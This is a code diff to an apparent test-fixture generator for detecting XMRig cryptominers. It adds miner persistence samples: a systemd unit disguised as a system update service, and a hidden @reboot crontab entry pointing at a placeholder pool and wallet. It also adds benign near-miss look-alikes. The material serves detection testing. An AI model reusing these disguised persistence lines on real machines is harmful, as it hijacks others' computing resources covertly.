@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from sample_blocks import HOST, INERT_NOTE, WALLET, Builders, a, elf, text
+from sample_blocks import HOST, INERT_NOTE, WALLET, Builders, a, elf, split, text
 
 
 def xmrig_binary() -> dict[str, bytes]:
@@ -69,10 +69,85 @@ def miner_dropper() -> dict[str, bytes]:
     }
 
 
+def xmrig_binary_near() -> dict[str, bytes]:
+    # A monitoring agent that knows miner names and the stratum scheme, without being a miner.
+    return {"miner-detector-elf": elf(*a("XMRig", "stratum+tcp://", "cryptonight", "detected miner: %s"))}
+
+
+def xmrig_config_near() -> dict[str, bytes]:
+    # Another program's JSON with pools and url keys (a DNS resolver pool list).
+    return {
+        "resolver-pools-json": text(
+            "{",
+            '  "pools": [ { "url": "198.51.100.53:53", "name": "doc-resolver" } ],',
+            '  "cpu": { "threads": 2 }',
+            "}",
+        )
+    }
+
+
+def miner_dropper_near() -> dict[str, bytes]:
+    # A hardening script: firewall, history and cron steps, a download; no pool and no miner.
+    return {
+        "hardening-sh": text(
+            "#!/bin/sh",
+            "ufw enable",
+            "chattr +i /etc/passwd",
+            "curl -fsSL https://example.org/baseline.sh -o /tmp/baseline.sh",
+            "crontab -l > /root/cron.bak",
+            "unset HISTFILE",
+        )
+    }
+
+
+def xmrig_service() -> dict[str, bytes]:
+    return {
+        "xmrig-service": text(
+            "[Unit]",
+            "Description=System update service",
+            "[Service]",
+            split(f"ExecStart=/usr/local/bin/sysupdate -o stratum+tcp://{HOST}:3333 -u {WALLET}", " --donate-level 1"),
+            "Restart=always",
+            "[Install]",
+            "WantedBy=multi-user.target",
+        )
+    }
+
+
+def xmrig_service_near() -> dict[str, bytes]:
+    return {
+        "monerod-service": text(
+            "[Unit]",
+            "Description=Monero full node",
+            "[Service]",
+            "ExecStart=/usr/bin/monerod --non-interactive --data-dir /var/lib/monero",
+            "[Install]",
+        )
+    }
+
+
+def xmrig_cron() -> dict[str, bytes]:
+    return {
+        "crontab-root": text(split("@reboot /tmp/.x/sysupdate -o stratum+tcp://", f"{HOST}:3333 -u {WALLET} -p x -B"))
+    }
+
+
+def xmrig_cron_near() -> dict[str, bytes]:
+    return {"crontab-monero-node": text("@reboot /usr/bin/monerod --detach --data-dir /var/lib/monero")}
+
+
 SAMPLES: Builders = {
+    "XMRig_Systemd_Service": xmrig_service,
+    "XMRig_Cron_Entry": xmrig_cron,
     "XMRig_Miner_Binary": xmrig_binary,
     "XMRig_Miner_Config": xmrig_config,
     "CoinMiner_Dropper_Script": miner_dropper,
 }
 
-NEARMISS: Builders = {}
+NEARMISS: Builders = {
+    "XMRig_Miner_Binary": xmrig_binary_near,
+    "XMRig_Miner_Config": xmrig_config_near,
+    "CoinMiner_Dropper_Script": miner_dropper_near,
+    "XMRig_Systemd_Service": xmrig_service_near,
+    "XMRig_Cron_Entry": xmrig_cron_near,
+}
